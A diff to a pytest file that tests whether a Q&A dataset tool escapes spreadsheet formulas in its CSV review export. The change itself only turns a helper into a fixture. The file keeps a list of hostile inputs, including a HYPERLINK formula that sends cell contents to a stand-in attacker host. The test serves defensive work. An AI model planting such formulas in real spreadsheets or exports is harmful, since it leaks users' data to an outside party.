@@ -7,7 +7,6 @@ import json
 import pytest
 
 from cazton_llm.qa_schema import QARecord
-from tests.dataset_builder.conftest import run_cli
 
 HOSTILE_TEXTS = [
     '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the answer")',
@@ -24,7 +23,7 @@ HOSTILE_TEXTS = [
 
 
 @pytest.mark.parametrize("text", HOSTILE_TEXTS, ids=range(len(HOSTILE_TEXTS)))
-def test_review_csv_escapes_formulas_and_round_trips(tmp_path, text):
+def test_review_csv_escapes_formulas_and_round_trips(tmp_path, text, run_cli):
     qa, review_csv, reviews = tmp_path / "qa.jsonl", tmp_path / "review.csv", tmp_path / "reviews.jsonl"
     record = QARecord(question=f"{text} (which service?)", answer=text, source_url="https://example.com/a")
     qa.write_text(json.dumps(record.to_dict()) + "\n")
@@ -50,7 +49,7 @@ def test_review_csv_escapes_formulas_and_round_trips(tmp_path, text):
     assert stored == {"id": record.id, "decision": "edit", "edited_question": "", "edited_answer": text.strip()}
 
 
-def test_review_jsonl_export_is_not_escaped(tmp_path):
+def test_review_jsonl_export_is_not_escaped(tmp_path, run_cli):
     qa, review = tmp_path / "qa.jsonl", tmp_path / "review.jsonl"
     qa.write_text(json.dumps(QARecord(question="=1+1?", answer=HOSTILE_TEXTS[0]).to_dict()) + "\n")
     assert run_cli("review", "export", "--qa", str(qa), "--out", str(review)).returncode == 0
